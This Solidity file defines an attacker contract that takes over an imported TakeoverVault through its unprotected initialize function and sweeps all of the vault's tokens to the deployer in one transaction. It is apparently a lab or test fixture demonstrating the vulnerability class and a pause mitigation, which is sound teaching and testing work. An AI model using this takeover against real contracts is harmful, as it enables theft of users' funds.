// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {TakeoverVault} from "./TakeoverVault.sol";

/// @title TakeoverAttacker
/// @notice Unprotected-initializer takeover of TakeoverVault, done in ONE
///         transaction (`attack`):
///   1. call `vault.initialize(address(this))`: this contract is now the owner;
///   2. call `vault.sweep(owner)`: every token the vault holds goes to the
///      attacker EOA that deployed this contract.
/// If the vault is paused, step 2 reverts with `EnforcedPause()` and the whole
/// transaction reverts (the ownership change with it).
contract TakeoverAttacker {
    address public immutable owner;
    TakeoverVault public immutable vault;

    event AttackExecuted(address previousOwner, uint256 swept);

    constructor(TakeoverVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    /// @notice Run the whole exploit.
    /// @return swept tokens sent to the owner.
    function attack() external returns (uint256 swept) {
        require(msg.sender == owner, "TakeoverAttacker: NOT_OWNER");
        address previousOwner = vault.owner();
        vault.initialize(address(this));
        swept = vault.sweep(owner);
        emit AttackExecuted(previousOwner, swept);
    }
}
